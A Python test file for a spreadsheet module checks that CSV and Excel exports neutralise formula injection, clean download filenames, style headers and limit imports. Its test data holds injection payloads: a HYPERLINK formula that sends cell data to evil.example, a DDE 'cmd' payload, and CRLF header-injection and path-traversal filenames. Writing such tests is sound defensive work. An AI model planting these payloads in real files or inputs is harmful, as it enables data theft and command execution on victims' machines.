"""Every spreadsheet the product writes is safe to open, and reads back as it was meant: numbers stay
numbers, the header is styled and frozen, money has its format; imports read CSV and .xlsx alike."""

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from foundation.spreadsheets import (
    DATE_FORMAT,
    MONEY_FORMAT,
    UnreadableSpreadsheet,
    csv_bytes,
    csv_response,
    excel_bytes,
    excel_response,
    read_rows,
    safe_cell,
    safe_filename,
)
from tests.foundation.workbooks import without_dimension

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\uff1dSUM(A1)",  # full-width =
    "\uff0b1",  # full-width +
    "\uff0d1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    " =1+1",  # a trimmed import would leave the formula first
    "\x01=1+1",  # Excel output drops the control character
    "\u3000=1+1",  # ideographic space
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_would_run_gets_a_quote_first(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Floating support", "", "Year 1 - Year 2", "a=b", "  spaced", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [Decimal("-1234.50"), Decimal("0"), -3, 7, -2.5, True, date(2025, 4, 1), datetime(2025, 4, 1, 9, 30), None],
)
def test_numbers_dates_and_empty_cells_stay_what_they_are(value):
    assert safe_cell(value) is value


def test_other_objects_become_their_text_and_are_checked_too():
    class Organisation:
        def __str__(self):
            return "=IMPORTXML(evil)"

    assert safe_cell(Organisation()) == "'=IMPORTXML(evil)"


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("work-plan.csv", "work-plan.csv"),
        ('evil"\r\nSet-Cookie: a=b.csv', "evil-Set-Cookie-a-b.csv"),
        ("../../etc/passwd", "etc-passwd"),
        ("Cymorth Ŵyl 2025.xlsx", "Cymorth-Wyl-2025.xlsx"),
        ('"', "export"),
    ],
)
def test_download_names_are_plain(name, safe):
    assert safe_filename(name) == safe


def test_csv_response_reads_back_with_numbers_plain_and_formulas_neutralised():
    rows = [
        ["=HYPERLINK(evil)", Decimal("-1234.50"), date(2025, 4, 1), None],
        ["-10", -10, date(2026, 3, 31), "ok"],
    ]
    response = csv_response('risk "register"\n.csv', ["Title", "Amount", "Review", "Note"], rows)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="risk-register-.csv"'
    read = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert read == [
        ["Title", "Amount", "Review", "Note"],
        ["'=HYPERLINK(evil)", "-1234.50", "2025-04-01", ""],
        ["'-10", "-10", "2026-03-31", "ok"],
    ]


def test_csv_can_carry_a_byte_order_mark_for_excel():
    assert csv_bytes(["Value"], [["£5"]], bom=True).startswith(b"\xef\xbb\xbfValue\r\n")
    assert csv_bytes(["Value"], [["£5"]]).startswith(b"Value\r\n")


def _workbook(response):
    return load_workbook(io.BytesIO(response.content))


def test_excel_response_has_a_styled_frozen_header_an_autofilter_and_money_formats():
    header = ["Reference", "Title", "Annual amount", "Start", "Service users"]
    rows = [
        ["GB-1", "=HYPERLINK(evil)", Decimal("25000.00"), date(2025, 4, 1), 40],
        ["GB-2", "Play scheme", Decimal("-12.50"), None, 3],
    ]
    response = excel_response(
        "growth-bids-2025.xlsx",
        "Growth bids 2025/26",
        header,
        rows,
        sheet_name="Bids",
        number_formats={"Annual amount": MONEY_FORMAT},
    )
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="growth-bids-2025.xlsx"'
    book = _workbook(response)
    sheet = book["Bids"]
    assert book.properties.title == "Growth bids 2025/26"
    assert [c.value for c in sheet[1]] == header
    assert all(c.font.b for c in sheet[1])
    assert sheet["A1"].fill.fgColor.rgb.endswith("1D3557")
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    assert sheet["B2"].value == "'=HYPERLINK(evil)" and sheet["B2"].data_type == "s"
    assert sheet["C2"].value == 25000 and sheet["C2"].number_format == MONEY_FORMAT
    assert sheet["C3"].value == -12.5 and sheet["C3"].number_format == MONEY_FORMAT
    assert sheet["D2"].value == datetime(2025, 4, 1) and sheet["D2"].number_format == DATE_FORMAT
    assert sheet["E2"].value == 40 and sheet["E2"].number_format == "General"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width


def test_a_title_row_sits_above_the_header_when_asked_for():
    book = load_workbook(
        io.BytesIO(excel_bytes("Work plan", ["Title", "Value"], [["Play", Decimal("5")]], title_row=True))
    )
    sheet = book.active
    assert sheet["A1"].value == "Work plan" and sheet["A1"].font.b and sheet["A1"].font.sz == 14
    assert [c.value for c in sheet[2]] == ["Title", "Value"] and sheet["A2"].font.b
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:B3"


def test_excel_cells_lose_control_characters_and_times_are_shown_in_london():
    moment = datetime(2025, 7, 1, 8, 0, tzinfo=ZoneInfo("UTC"))
    rows = [["bell\x07 and\x1b escape", moment], ["\x01=HYPERLINK(evil)", None]]
    sheet = load_workbook(io.BytesIO(excel_bytes("x", ["Note", "When"], rows))).active
    assert sheet["A2"].value == "bell and escape"
    assert sheet["A3"].value == "'=HYPERLINK(evil)" and sheet["A3"].data_type == "s"
    assert sheet["B2"].value == datetime(2025, 7, 1, 9, 0)  # British Summer Time


def test_extra_sheets_follow_the_first():
    book = load_workbook(
        io.BytesIO(excel_bytes("x", ["A"], [], extra_sheets={"Guide": [["Column", "Hint"], ["A", "=no"]]}))
    )
    assert book.sheetnames == ["x", "Guide"]
    assert [[c.value for c in row] for row in book["Guide"].iter_rows()] == [["Column", "Hint"], ["A", "'=no"]]


# ------------------------------------------------------------------------------------------ reading


def test_read_rows_reads_csv_in_utf8_and_the_windows_code_page():
    assert read_rows("Name,Amount\nCaf\u00e9,£5\n".encode("utf-8-sig")) == [["Name", "Amount"], ["Caf\u00e9", "£5"]]
    assert read_rows("Name,Amount\nCaf\u00e9,£5\n".encode("cp1252")) == [["Name", "Amount"], ["Caf\u00e9", "£5"]]


def test_read_rows_reads_back_what_excel_bytes_wrote():
    data = excel_bytes("x", ["Name", "Amount", "Start"], [["Play", Decimal("12.50"), date(2025, 4, 1)]])
    assert read_rows(data, name="x.xlsx") == [["Name", "Amount", "Start"], ["Play", 12.5, datetime(2025, 4, 1)]]


def test_read_rows_prefers_the_named_sheet():
    data = excel_bytes("First", ["A"], [["first"]], extra_sheets={"Register": [["B"], ["second"]]})
    assert read_rows(data, sheet="Register") == [["B"], ["second"]]
    assert read_rows(data, sheet="Missing") == [["A"], ["first"]]


def test_read_rows_refuses_more_rows_than_the_limit_naming_it():
    csv_data = b"a\n" * 11
    # A workbook that does not declare its size is stopped while it streams, one row past the limit.
    xlsx_data = without_dimension(excel_bytes("x", ["a"], [[i] for i in range(10)]))
    assert len(read_rows(csv_data, max_rows=11)) == 11
    assert len(read_rows(xlsx_data, max_rows=11)) == 11
    for data in (csv_data, xlsx_data):
        with pytest.raises(UnreadableSpreadsheet, match="more than 10 rows; at most 10 can be imported"):
            read_rows(data, max_rows=10)


def test_read_rows_refuses_a_workbook_declaring_more_rows_before_reading_it():
    with pytest.raises(UnreadableSpreadsheet, match="spans 11 rows and 1 column;.* at most 10 rows"):
        read_rows(excel_bytes("x", ["a"], [[i] for i in range(10)]), max_rows=10)


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("x.xlsx", b"not a workbook", "does not look like an Excel (.xlsx) workbook"),
        ("x.csv", bytes(range(128, 256)) * 4 + b"\x81\x8d\x8f\x90\x9d", "neither a CSV text file nor an Excel"),
        ("x.xlsx", b"PK\x03\x04 truncated", "could not be opened"),
    ],
)
def test_read_rows_says_what_is_wrong_with_an_unreadable_file(name, data, message):
    with pytest.raises(UnreadableSpreadsheet, match=re.escape(message)):
        read_rows(data, name=name)
